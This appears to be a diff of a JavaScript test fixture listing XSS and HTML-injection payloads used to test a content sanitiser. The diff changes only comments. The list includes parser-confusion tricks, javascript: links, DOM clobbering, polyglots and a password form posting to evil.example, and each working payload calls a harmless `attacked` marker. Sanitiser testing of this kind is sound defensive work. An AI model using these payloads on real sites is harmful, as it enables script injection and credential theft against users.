@@ -231,7 +231,7 @@ const payloads = {
   "document type": '<!DOCTYPE html [<!ENTITY x "<img src=x onerror=attacked(1)>">]><p>&x;</p>',
   "comment in a title of a table": "<table><caption><!--</caption><img src=x onerror=attacked(1)>--></table>",
 
-  // Trees that a second parser builds anew
+  // Trees that a second parser builds differently
   "form in a form": "<form><div></form><form><style></div><img src=x onerror=attacked(1)></style>",
   "table in a paragraph": "<p><table><img src=x onerror=attacked(1)></table></p>",
   "link in a link": '<a href="https://example.com"><table><a href="javascript:attacked(1)">رابط</a></table></a>',
@@ -274,7 +274,7 @@ const payloads = {
   "image of a million pixels":
     '<img src="/images/00000000-0000-4000-8000-000000000000.webp" width="1000000" height="100%">',
 
-  // Forms, frames and what changes the page
+  // Forms, frames and changes of the page
   "form that asks for a password":
     '<form action="https://evil.example"><input name=password type=password><button>دخول</button></form>',
   "form with a script address": '<form action="javascript:attacked(1)"><button>إرسال</button></form>',
@@ -305,7 +305,7 @@ const payloads = {
   "film with a poster": '<video poster="https://evil.example/pixel.gif"></video>',
   "dialog over the page": "<dialog open>سجّل الدخول من جديد <input></dialog>",
 
-  // Names that take the place of the page's own
+  // Names that replace the page's own
   "name of the document's parts": '<img name="getElementById" src=x><form name="cookie"></form>',
   "id that is a setting":
     '<a id="config" href="https://evil.example">رابط</a><a id="config" name="url" href="x:y">رابط</a>',
@@ -319,7 +319,7 @@ const payloads = {
   "attribute of every object": '<p constructor="x" __proto__="y" hasownproperty="z" tostring="attacked(1)">نص</p>',
   "part that is replaced": '<slot name="x" onslotchange=attacked(1)>نص</slot><p slot="x" is="x-y" part="z">نص</p>',
 
-  // For every place at once
+  // For many contexts at once
   "polyglot of many places":
     "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=attacked(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=attacked(1)//>\\x3e",
   "polyglot of attributes": "\" onclick=attacked(1)//<button ' onclick=attacked(1)//> */ attacked(1)//",
@@ -330,8 +330,8 @@ const payloads = {
 };
 
 /**
- * Written content that attacks its readers: the families of the published evasion lists, and what has broken sanitisers
- * before. Run by each test that shows content, in the API and in a browser: a payload that runs calls `attacked`.
+ * Written content that attacks its readers: the families of published evasion lists, and payloads that have broken
+ * sanitisers. Every test that shows content uses it, in the API and in a browser: a payload that runs calls `attacked`.
  */
 export const hostileHtml: readonly { name: string; html: string }[] = Object.entries(payloads).map(([name, html]) => ({
   name,
